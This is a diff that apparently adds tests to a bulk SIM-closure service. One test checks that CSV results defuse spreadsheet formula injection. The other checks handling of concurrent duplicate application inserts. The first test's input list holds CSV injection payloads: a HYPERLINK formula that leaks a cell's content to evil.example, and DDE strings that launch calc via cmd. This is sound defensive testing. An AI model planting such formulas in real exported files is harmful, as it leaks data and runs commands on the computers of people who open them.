@@ -10,7 +10,15 @@ from simexit.domain.application_number import new_application_number
 from simexit.domain.errors import DomainError
 from simexit.domain.state_machine import ActorType
 from simexit.services.bulk.approval import approve_batch
-from simexit.services.bulk.closure import BulkOptions, batch_progress, batch_results, close_file, run_batch, start_batch
+from simexit.services.bulk.closure import (
+    BulkOptions,
+    batch_progress,
+    batch_results,
+    close_file,
+    run_batch,
+    start_batch,
+    write_results,
+)
 from simexit.services.closure.applications import Actor, ApplyRequest, apply, show
 from simexit.services.closure.precheck import precheck
 from simexit.store import bulk_repo
@@ -310,3 +318,39 @@ def test_bulk_applications_and_approvals_are_audited_like_single_ones(app, fleet
     last = audit.application_entries(app, pending)[-1]
     assert (last["action"], last["actor"], last["data"]["to"]) == ("application.approved", "rita", "approved")
     assert audit.verify(app).intact
+
+
+def test_the_result_csv_cannot_run_a_formula_in_a_spreadsheet(app, fleet, tmp_path):
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+               "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]
+    f = tmp_path / "hostile.csv"
+    with f.open("w", encoding="utf-8", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["msisdn", "reason"])
+        w.writerows([[h, ""] for h in hostile] + [[fleet["de_clean"], "=cmd"], [fleet["de_clean2"], ""]])
+    out = tmp_path / "hostile.result.csv"
+    res = close_file(app, f, STORE, out=out)
+    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
+    assert [r["line"] for r in rows[:5]] == ["'" + h[:40] for h in hostile]
+    for r in rows:
+        for name, value in r.items():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+").isdigit(), (name, value)
+    assert rows[6]["line"] == fleet["de_clean2"] and rows[6]["outcome"] == "applied"  # a number stays as it is
+    jsonl = tmp_path / "hostile.result.jsonl"  # JSON Lines is data, not a spreadsheet: kept as it was
+    write_results(app, res["batch_id"], jsonl)
+    assert [json.loads(x)["line"] for x in jsonl.read_text(encoding="utf-8").splitlines()[:5]] == [
+        h[:40] for h in hostile]
+
+
+@pytest.mark.parametrize("n", [1, 25])  # 25: COPY on PostgreSQL, which raises the driver's own error
+def test_an_application_taken_meanwhile_is_row_taken_so_the_chunk_is_redone(app, fleet, tmp_path, n):
+    f = tmp_path / "one.csv"
+    f.write_text(f"msisdn\n{fleet['de_clean']}\n", encoding="utf-8")
+    close_file(app, f, STORE)
+    with app.db.read() as c:
+        row = dict(c.execute(select(applications)).mappings().one())
+    del row["id"]
+    copies = [{**row, "application_no": new_application_number()} for _ in range(n - 1)] + [row]
+    with pytest.raises(bulk_repo.RowTaken), app.db.write() as c:
+        bulk_repo.insert_applications(c, copies)
+    assert count(app, applications) == 1
